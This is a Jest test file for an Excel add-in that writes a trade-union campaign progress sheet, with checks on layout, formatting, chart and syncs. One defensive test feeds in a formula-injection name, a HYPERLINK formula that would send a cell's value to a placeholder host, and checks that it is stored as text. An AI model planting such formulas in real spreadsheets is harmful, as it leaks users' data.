/**
 * writeProgressSheet against office-addin-mock: a context built from a plain object that records
 * every range written, conditional format and chart added; syncs are counted.
 */
import { OfficeMockObject } from 'office-addin-mock';
import type { ProgressReport } from '../../server/services/progress/report.service';
import { PROGRESS_CHART_NAME, PROGRESS_SHEET_NAME, flagColumn, progressSheetLayout, stepColumn, writeProgressSheet, type ProgressSheetOrg, type ProgressSheetReport } from './progress-sheet';

// office-addin-mock needs only the OfficeApp host names from office-addin-manifest (see office-mock.test.ts).
jest.mock('office-addin-manifest', () => ({
  OfficeApp: { Excel: 'excel', OneNote: 'onenote', Outlook: 'outlook', PowerPoint: 'powerpoint', Project: 'project', Word: 'word' },
}));

/** Compile-time: the server's report is what the sheet takes (the task pane passes the API's JSON as is). */
export const reportFitsSheet = (r: ProgressReport): ProgressSheetReport => r;

const TITLES = ['Доступ', 'Обучение', 'Паспорт', 'Учёт', 'Согласия', 'Заявки', 'Выдача'];

function org(orgId: number, name: string, percents: (number | null)[], overdue: number[] = []): ProgressSheetOrg {
  return {
    orgId,
    name,
    kindLabel: 'Первичная профсоюзная организация',
    counts: { primaries: 1, registered: 40 + orgId },
    coveragePercent: 55.5,
    steps: percents.map((p, i) => ({ step: i + 1, title: TITLES[i], percent: p, done: p === 100, overdue: overdue.includes(i + 1), dueOn: `2027-0${Math.min(i + 1, 9)}-15` })),
  };
}

const REPORT: ProgressSheetReport = {
  today: '2026-11-26',
  campaign: { name: 'Семь шагов 2026/27' },
  organisation: org(1, 'Районная организация', [50, 50, 33.3, 66.7, 75, 66.7, 50], [1]),
  children: [org(2, 'ППО школы № 7', [100, 100, 100, 100, 75, 66.7, 50]), org(3, 'ППО детского сада № 3', [0, 0, 0, null, null, null, null], [1, 2])],
};

interface Written {
  address: string;
  values?: unknown[][];
  numberFormat?: unknown[][];
  columnHidden?: boolean;
  format: { font: Record<string, unknown>; fill: Record<string, unknown>; columnWidth?: number; rowHeight?: number; wrapText?: boolean };
  conditionalFormats: { added: Record<string, unknown>[]; cleared: boolean };
  cleared?: string;
}

/** A mock Excel: the workbook, optionally with an existing «Ход внедрения» sheet holding one chart. */
function mockExcel(existing: boolean) {
  const ranges: Written[] = [];
  const charts: Record<string, unknown>[] = [];
  const deletedCharts: string[] = [];
  const range = (address: string): Written => {
    const w: Written = {
      address,
      format: { font: {}, fill: {} },
      conditionalFormats: {
        added: [],
        cleared: false,
        add(this: Written['conditionalFormats'], type: string) {
          const cf = { type, stopIfTrue: false, custom: { rule: {} as Record<string, unknown>, format: { fill: {}, font: {} } }, cellValue: { rule: null as unknown, format: { fill: {}, font: {} } } };
          this.added.push(cf);
          return cf;
        },
        clearAll(this: Written['conditionalFormats']) {
          this.cleared = true;
        },
      } as Written['conditionalFormats'],
    };
    (w as unknown as { clear: (how: string) => void }).clear = (how: string) => (w.cleared = how);
    ranges.push(w);
    return w;
  };
  const state = { added: [] as string[], activated: false, frozenAt: '' };
  const sheet = {
    name: PROGRESS_SHEET_NAME,
    isNullObject: !existing,
    charts: {
      items: existing ? [{ name: 'старая диаграмма', delete: () => deletedCharts.push('старая диаграмма') }] : [],
      add: (type: string, source: Written, seriesBy: string) => {
        const chart: Record<string, unknown> = {
          type, source: source.address, seriesBy, name: '', title: {}, legend: {},
          axes: { valueAxis: {}, categoryAxis: { setCategoryNames: (r: Written) => (chart.categories = r.address) } },
          setPosition: (from: string, to: string) => (chart.position = `${from}:${to}`),
        };
        charts.push(chart);
        return chart;
      },
    },
    freezePanes: { freezeAt: (r: Written) => (state.frozenAt = r.address) },
    getRange: (address = '(all)') => range(address),
    getRangeByIndexes: (row: number, col: number, rows: number, cols: number) => range(`R${row + 1}C${col + 1}:${rows}x${cols}`),
    activate: () => (state.activated = true),
  };
  const data = {
    context: {
      workbook: {
        worksheets: {
          sheet,
          getItemOrNullObject(this: { sheet: unknown }, name: string) {
            if (name !== PROGRESS_SHEET_NAME) throw new Error('unexpected sheet');
            return this.sheet;
          },
          add(this: { sheet: unknown }, name: string) {
            state.added.push(name);
            return this.sheet;
          },
        },
      },
    },
  };
  const mock = new OfficeMockObject(data) as unknown as { context: { sync(): Promise<void> } };
  const ctx = mock.context;
  let syncs = 0;
  const sync = ctx.sync.bind(ctx);
  ctx.sync = async () => {
    syncs++;
    await sync();
  };
  return { context: ctx as unknown as Excel.RequestContext, ranges, charts, deletedCharts, syncs: () => syncs, state };
}

describe('the «Ход внедрения» sheet', () => {
  test('layout: a header, one row per child and a total, percentages as fractions, hidden overdue flags', () => {
    const l = progressSheetLayout(REPORT);
    expect(l.values).toHaveLength(5 + 3);
    expect(l.values.every((r) => r.length === l.columns)).toBe(true);
    expect(l.values[0][0]).toBe('Ход внедрения реестра: Районная организация');
    expect(l.values[1][0]).toBe('Кампания: Семь шагов 2026/27. Данные на 26.11.2026.');
    expect(l.values[3][stepColumn(1)]).toBe('до 15.01.2027');
    expect(l.values[4].slice(0, 6)).toEqual(['Организация', 'Вид', 'ППО', 'Членов на учёте', 'Охват, %', 'Шаг 1. Доступ']);
    expect(l.values.slice(5).map((r) => r[0])).toEqual(['ППО школы № 7', 'ППО детского сада № 3', 'Всего: Районная организация']);
    expect(l.values[5].slice(stepColumn(1), stepColumn(7) + 1)).toEqual([1, 1, 1, 1, 0.75, 0.667, 0.5]);
    expect(l.values[6].slice(stepColumn(1), stepColumn(7) + 1)).toEqual([0, 0, 0, '', '', '', '']);
    expect(l.values[6].slice(flagColumn(1), flagColumn(7) + 1)).toEqual([1, 1, 0, 0, 0, 0, 0]);
    expect(l.numberFormats[5][stepColumn(3)]).toBe('0.0%');
    expect(l.numberFormats[0][0]).toBe('@');
    expect({ first: l.firstDataRow, last: l.lastDataRow, total: l.totalRow }).toEqual({ first: 6, last: 8, total: 8 });
  });

  test('a subordinate named like a formula is written as text: its cell (and every text cell) has number format «@» before the values', async () => {
    const evil = '=HYPERLINK("http://example.invalid/?"&B2,"Нажмите")';
    const report: ProgressSheetReport = { ...REPORT, children: [org(2, evil, [100, 0, 0, 0, 0, 0, 0]), org(3, '+7 912', [0, 0, 0, 0, 0, 0, 0]), org(4, '@SUM(1)', [0, 0, 0, 0, 0, 0, 0])] };
    const m = mockExcel(false);
    await writeProgressSheet(m.context, report);
    const whole = m.ranges.find((r) => r.values)!;
    const rows = whole.values!.map((r, i) => ({ v: r, f: whole.numberFormat![i] }));
    for (const name of [evil, '+7 912', '@SUM(1)']) {
      const row = rows.find((r) => r.v[0] === name)!;
      expect(row.f[0]).toBe('@');
      expect(row.f[1]).toBe('@'); // the kind label
    }
    // Every string cell is Text; numbers keep their formats.
    whole.values!.forEach((r, i) => r.forEach((v, c) => { if (typeof v === 'string') expect(whole.numberFormat![i][c]).toBe('@'); }));
    expect(rows[5].f[stepColumn(1)]).toBe('0.0%');
    // The format is assigned before the values (office-addin-mock keeps the order of the assignments).
    expect(Object.keys(whole).indexOf('numberFormat')).toBeLessThan(Object.keys(whole).indexOf('values'));
  });

  test('a new sheet: two syncs, values in one write, red and green conditional formats per step, a clustered column chart, frozen panes', async () => {
    const m = mockExcel(false);
    const res = await writeProgressSheet(m.context, REPORT);
    expect(res).toEqual({ rows: 3, chart: true, syncs: 2 });
    expect(m.syncs()).toBe(2);
    expect(m.state.added).toEqual([PROGRESS_SHEET_NAME]);
    const whole = m.ranges.filter((r) => r.values);
    expect(whole).toHaveLength(1);
    expect(whole[0].address).toBe(`R1C1:8x${5 + 14}`);
    expect(whole[0].values).toEqual(progressSheetLayout(REPORT).values);
    expect(whole[0].numberFormat).toEqual(progressSheetLayout(REPORT).numberFormats);

    const cf = m.ranges.filter((r) => r.conditionalFormats.added.length);
    expect(cf.map((r) => r.address)).toEqual([6, 7, 8, 9, 10, 11, 12].map((c) => `R6C${c}:3x1`));
    const [late, done] = cf[0].conditionalFormats.added as { type: string; custom: { rule: { formula: string }; format: { fill: { color: string } } }; cellValue: { rule: unknown; format: { fill: { color: string } } }; stopIfTrue: boolean }[];
    expect(late.type).toBe('Custom');
    expect(late.custom.rule.formula).toBe('=$M6=1');
    expect(late.custom.format.fill.color).toBe('#FFC7CE');
    expect(late.stopIfTrue).toBe(true);
    expect(done.type).toBe('CellValue');
    expect(done.cellValue.rule).toEqual({ formula1: '=1', operator: 'GreaterThanOrEqual' });
    expect(done.cellValue.format.fill.color).toBe('#C6EFCE');
    expect((cf[6].conditionalFormats.added[0] as { custom: { rule: { formula: string } } }).custom.rule.formula).toBe('=$S6=1');

    expect(m.charts).toHaveLength(1);
    expect(m.charts[0]).toMatchObject({ type: 'ColumnClustered', seriesBy: 'Columns', source: 'R5C6:3x7', name: PROGRESS_CHART_NAME, categories: 'R6C1:2x1', position: 'A10:L32' });
    expect((m.charts[0].axes as { valueAxis: unknown }).valueAxis).toMatchObject({ maximum: 1, minimum: 0, numberFormat: '0%' });
    expect(m.ranges.find((r) => r.columnHidden)?.address).toBe('R1C13:1x7');
    expect(m.state.frozenAt).toBe('R1C1:5x1');
    expect(m.state.activated).toBe(true);
  });

  test('an existing sheet is rewritten: its charts and conditional formats go, three syncs for any size', async () => {
    const big: ProgressSheetReport = {
      ...REPORT,
      children: Array.from({ length: 120 }, (_, i) => org(10 + i, `ППО № ${i + 1}`, [100, 90, 80, 70, 60, 50, i % 2 ? 40 : null], i % 3 ? [] : [7])),
    };
    const m = mockExcel(true);
    const res = await writeProgressSheet(m.context, big);
    expect(res).toEqual({ rows: 121, chart: true, syncs: 3 });
    expect(m.syncs()).toBe(3);
    expect(m.state.added).toEqual([]);
    expect(m.deletedCharts).toEqual(['старая диаграмма']);
    const all = m.ranges.find((r) => r.address === '(all)')!;
    expect(all.conditionalFormats.cleared).toBe(true);
    expect((all as { cleared?: string }).cleared).toBe('All');
    expect(m.ranges.filter((r) => r.values)).toHaveLength(1);
    expect(m.charts).toHaveLength(1);
  });

  test('an organisation without children: the total row only, no chart', async () => {
    const m = mockExcel(false);
    const res = await writeProgressSheet(m.context, { ...REPORT, children: [] });
    expect(res).toEqual({ rows: 1, chart: false, syncs: 2 });
    expect(m.charts).toHaveLength(0);
  });
});
